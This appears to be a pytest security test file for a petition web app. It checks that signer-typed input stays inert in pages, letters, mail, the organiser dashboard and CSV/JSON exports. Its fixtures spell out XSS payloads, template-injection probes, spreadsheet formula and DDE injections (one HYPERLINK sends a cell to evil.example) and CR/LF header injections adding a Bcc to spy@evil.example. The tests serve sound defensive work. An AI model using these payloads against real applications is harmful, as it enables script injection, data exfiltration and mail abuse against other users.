"""User text is data, never code: a signer who types HTML, JavaScript, Jinja syntax, spreadsheet formulas or
header-breaking line ends into any field sees it shown back (or delivered) exactly as typed and completely inert,
on every page, mail, letter and export that carries it: the form shown again, the signer's own page with their
letter, the letter sent for them, the embed, the organiser dashboard, CSV and JSON exports.
"""

from __future__ import annotations

import csv
import io
import json
import re
from email import message_from_bytes, policy
from html.parser import HTMLParser

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select, update

from app import letters, organisers
from app.db import utcnow
from app.main import create_app
from app.models import OutboxMessage, Signature
from tests.seed import bearer
from tests.support import SIGNER, csrf_token, deliver, make_settings
from tests.test_access import confirm, sign_up
from tests.test_letters import letters_dir_with_named_targets

HOSTILE = {
    "name": "<script>alert(1)</script>{{ 7*7 }}",
    "city": '"><img src=x onerror=alert(2)>{% for i in range(3) %}LOOPED{% endfor %}',
    "message": ("</textarea><script>alert(3)</script><a href=\"javascript:alert(4)\">x</a>\n"
                "{{ 1234567*3 }} {{ ''.__class__.__mro__ }} {% raw %}{% endraw %} ${7*7} #{7*7}"),
}
EVALUATED = ("3703701", "LOOPEDLOOPED", "<class ", "alert(1)</script>49")  # what evaluation would leave behind


class Dom(HTMLParser):
    """What a browser would build: tags with attributes, and the text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self.script_text: list[str] = []
        self._in_script = False
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        (self.script_text if self._in_script else self.text).append(data)

    @property
    def shown(self) -> str:
        """Text and attribute values as displayed (entities decoded)."""
        return "\n".join(self.text + [v for _, attrs in self.tags for v in attrs.values()])


def assert_inert(html: str, where: str, *, shows: tuple[str, ...] = ()) -> None:
    dom = Dom(html)
    for tag, attrs in dom.tags:
        assert not [a for a in attrs if a.startswith("on")], f"{where}: event handler on <{tag}>: {attrs}"
        for a in ("href", "src", "action", "formaction"):
            assert not attrs.get(a, "").strip().lower().startswith("javascript:"), f"{where}: {a}={attrs[a]!r}"
        if tag == "script":
            assert attrs.get("src", "").startswith("/static/"), f"{where}: a script that is not ours: {attrs}"
        assert not (tag == "img" and attrs.get("src") == "x"), f"{where}: the typed <img> became an element"
    assert not "".join(dom.script_text).strip(), f"{where}: inline script: {dom.script_text}"
    for trace in EVALUATED:
        assert trace not in html, f"{where}: typed template text was evaluated ({trace!r})"
    for typed in shows:
        assert typed in dom.shown, f"{where}: the typed text is not shown as typed: {typed!r}"


@pytest.fixture
def app_client(tmp_path, sqlite_url):
    """The app with two embassies that take names, so a signer's name reaches letters and mail headers."""
    settings = make_settings(tmp_path, sqlite_url, letters_dir=letters_dir_with_named_targets(tmp_path))
    with TestClient(create_app(settings), base_url="http://testserver") as client:
        yield client, client.app.state.services


def test_hostile_text_is_shown_as_typed_and_inert_on_every_page_and_in_the_letter(app_client, smtp):
    client, svc = app_client
    typed_lines = [HOSTILE["name"], HOSTILE["city"], *HOSTILE["message"].splitlines()]

    # 1. The form comes back with what was typed (consent missing), escaped into its fields.
    again = client.post("/c/mamay/sign", data={**SIGNER, **HOSTILE, "country": "CA", "consent": ""})
    assert again.status_code == 422
    assert_inert(again.text, "petition form shown again", shows=(HOSTILE["name"], HOSTILE["city"]))
    assert HOSTILE["message"].replace("\n", "") in Dom(again.text).shown.replace("\n", "")

    # 2. The same through the embed's form.
    embed = client.get("/c/mamay/embed?lang=en")
    form_token = re.search(r'name="form_token" value="([^"]+)"', embed.text).group(1)
    embedded = client.post("/c/mamay/embed/sign", data={**SIGNER, **HOSTILE, "consent": "", "form_token": form_token},
                           headers={"Origin": "http://testserver"})  # as a browser sends it from the embed
    assert embedded.status_code == 422
    assert_inert(embedded.text, "embed form shown again", shows=(HOSTILE["name"], HOSTILE["city"]))

    # 3. Signed, confirmed, named to the Canadian embassy (name and city): their own page shows the letter.
    who = confirm(client, svc, smtp, sign_up(client, svc, smtp, "hostile@example.org", **HOSTILE, country="CA"))
    own = csrf_token(client, f"/s/{who.manage}")
    named = client.post(f"/s/{who.manage}/named", data={"csrf_token": own, "target": "embassy-ca", "named": "on",
                                                         "lang": "en"}, follow_redirects=False)
    assert named.status_code == 303
    page = client.get(f"/s/{who.manage}?lang=en")
    assert_inert(page.text, "signer's page", shows=tuple(typed_lines))
    for lang in ("ru", "kk"):
        assert_inert(client.get(f"/s/{who.manage}?lang={lang}").text, f"signer's page ({lang})")
    assert_inert(client.get("/c/mamay/letter?lang=en&target=embassy-ca").text, "letter preview")

    # 4. "Send it for me": the mail to the embassy carries the text literally, its HTML part escaped, and no
    #    signer text (nor address) in any header.
    send = client.post(f"/s/{who.manage}/send", data={"csrf_token": own, "target": "embassy-ca", "lang": "en"},
                       follow_redirects=False)
    assert send.status_code == 303
    deliver(svc, smtp.url)
    [letter] = smtp.sink.to("ottawa@mfa.kz")
    text = letter.get_body(preferencelist=("plain",)).get_content()
    html = letter.get_body(preferencelist=("html",)).get_content()
    for line in typed_lines:
        assert line in text
    assert_inert(html, "letter mail (HTML part)", shows=tuple(typed_lines))
    assert letter["Reply-To"] is None and letter["Cc"] is None
    assert "hostile@example.org" not in letter.as_string()
    assert letter["Subject"] == svc.campaigns["mamay"].subject["en"]
    for received in smtp.sink.messages:
        raw = received.message.as_string()
        for trace in EVALUATED:
            assert trace not in raw, f"mail {received.message['Subject']!r}: {trace!r} evaluated"

    # 5. The organiser dashboard, with a hostile organiser name too, and both exports.
    with svc.db.write.begin() as s:
        _, org = organisers.add(s, name='<img src=x onerror=alert(5)>{{ 7*7 }}', now=utcnow())
    csv_answer = client.get("/api/v1/campaigns/mamay/signatures?format=csv&status=all", headers=bearer(org))
    json_answer = client.get("/api/v1/campaigns/mamay/signatures?format=json&status=all", headers=bearer(org))
    dashboard = client.get("/organiser?lang=en", headers=bearer(org))
    assert dashboard.status_code == 200
    assert_inert(dashboard.text, "organiser dashboard", shows=('<img src=x onerror=alert(5)>{{ 7*7 }}',))
    assert csv_answer.headers["content-type"].startswith("text/csv")
    assert json_answer.headers["content-type"].startswith("application/json")
    [row] = [r for r in csv.DictReader(io.StringIO(csv_answer.text)) if r["email"] == "hostile@example.org"]
    assert (row["name"], row["city"]) == (HOSTILE["name"], HOSTILE["city"])
    assert row["message"] == HOSTILE["message"]
    [record] = [r for r in json_answer.json() if r["email"] == "hostile@example.org"]
    assert (record["name"], record["city"], record["message"]) == (HOSTILE["name"], HOSTILE["city"],
                                                                   HOSTILE["message"])


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "city": "+cmd|' /C calc'!A0",
    "message": "@SUM(1+1)*cmd|' /C calc'!A0",
}
MORE_FORMULAS = ["-2+3+cmd|' /C calc'!A0", "＝1+1", "=1+1"]


def test_export_cells_that_a_spreadsheet_would_run_are_made_inert(app_client, smtp):
    client, svc = app_client
    confirm(client, svc, smtp, sign_up(client, svc, smtp, "formula@example.org", **FORMULAS))
    for i, name in enumerate(MORE_FORMULAS):
        confirm(client, svc, smtp, sign_up(client, svc, smtp, f"formula{i}@example.org", name=name))
    with svc.db.write.begin() as s:
        _, org = organisers.add(s, name="exporter", now=utcnow())
    answer = client.get("/api/v1/campaigns/mamay/signatures?format=csv", headers=bearer(org))
    rows = list(csv.reader(io.StringIO(answer.text)))
    header, cells = rows[0], [cell for row in rows[1:] for cell in row]
    assert "name" in header and len(rows) == 1 + 1 + len(MORE_FORMULAS)
    leads = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
    assert not [c for c in cells if c.startswith(leads)], "a cell a spreadsheet would run"
    # Inert, yet nothing lost: the typed text is there behind the apostrophe.
    by_email = {r[header.index("email")]: r for r in rows[1:]}
    typed = by_email["formula@example.org"]
    for field, value in FORMULAS.items():
        assert typed[header.index(field)] == "'" + value
    # Counts exports too (country names are ours, but the check is cheap and the rule is general).
    counts = client.get("/api/v1/campaigns/mamay/counts?by=country&format=csv", headers=bearer(org))
    assert not [c for row in csv.reader(io.StringIO(counts.text)) for c in row if c.startswith(leads)]


@pytest.mark.parametrize("field", ["name", "email", "city"])
@pytest.mark.parametrize("breaker", ["\r\nBcc: spy@evil.example", "\nBcc: spy@evil.example", "\rX: y",
                                     "\u2028Bcc: spy@evil.example", "\x85Bcc: spy@evil.example"])
def test_line_breaks_in_fields_that_reach_mail_headers_are_refused_and_nothing_is_stored(client, svc, field,
                                                                                         breaker):
    value = ("me@example.org" if field == "email" else SIGNER[field]) + breaker
    answer = client.post("/api/v1/campaigns/mamay/signatures", json={**SIGNER, field: value, "consent": True})
    assert answer.status_code == 422
    assert [e["field"] for e in answer.json()["detail"]] == [field]
    with svc.db.read() as s:
        assert s.scalar(select(Signature.id)) is None and s.scalar(select(OutboxMessage.id)) is None


def test_a_name_with_line_breaks_that_got_into_the_database_still_cannot_add_a_header(app_client, smtp):
    """Defence in depth: if a stored name ever held CR/LF (an import, an old version), it adds no header and no
    recipient: the letter goes to the embassy alone, the signer's copy to the signer alone."""
    client, svc = app_client
    who = confirm(client, svc, smtp, sign_up(client, svc, smtp, "crlf@example.org", country="GB"))
    evil = "Ann\r\nBcc: spy@evil.example\r\nSubject: forged"
    with svc.db.write.begin() as s:
        s.execute(update(Signature).where(Signature.email_key.is_not(None))
                  .values(name_enc=svc.keyring.seal(evil, "name")))
        row = s.scalar(select(Signature))
        letters.set_named(s, campaign=svc.campaigns["mamay"], row=row, target_key="embassy-gb", named=True,
                          now=utcnow())
    own = csrf_token(client, f"/s/{who.manage}")
    sent = client.post(f"/s/{who.manage}/send", data={"csrf_token": own, "target": "embassy-gb", "lang": "en"},
                       follow_redirects=False)
    assert sent.status_code == 303
    deliver(svc, smtp.url)
    [received] = [r for r in smtp.sink.messages if "London@mfa.kz" in r.envelope_to]
    assert received.envelope_to == ["London@mfa.kz"]
    assert sorted(to for r in smtp.sink.messages for to in r.envelope_to if "spy" in to) == []
    raw = received.message.as_bytes()
    msg = message_from_bytes(raw, policy=policy.default)
    assert msg["Bcc"] is None and len(msg.get_all("Subject")) == 1
    assert msg["Subject"] == svc.campaigns["mamay"].subject["en"]
    headers = raw.split(b"\n\n", 1)[0]  # (in the body the typed text may say anything: it is the letter)
    assert not re.search(rb"^(Bcc|Subject: forged)", headers, re.MULTILINE)
    assert msg["Reply-To"] is None and msg["Cc"] is None


@pytest.mark.parametrize("header", ["subject", "to", "reply_to", "from_name"])
def test_the_mail_builder_never_writes_a_header_line_from_a_value(svc, header):
    values = {"to": "ok@example.org", "subject": "Hello", "body": "text"}
    values[header] = "x@example.org\r\nBcc: spy@evil.example" if header in ("to", "reply_to") else \
        "Hello\r\nBcc: spy@evil.example"
    try:
        msg = svc.composer.build(**values)
        raw = msg.as_bytes()
    except ValueError:
        return  # refused outright: nothing can be sent
    parsed = message_from_bytes(raw, policy=policy.default)
    assert parsed["Bcc"] is None and b"\nBcc:" not in raw


def test_json_answers_cannot_be_read_as_html(client):
    answer = client.post("/api/v1/campaigns/mamay/signatures",
                         json={**SIGNER, "name": "<script>alert(1)</script>", "country": "<b>XX</b>",
                               "consent": True})
    assert answer.status_code == 422
    assert answer.headers["content-type"].startswith("application/json")
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "<script>" not in answer.text  # the error names the field, it does not echo the value
    json.loads(answer.text)
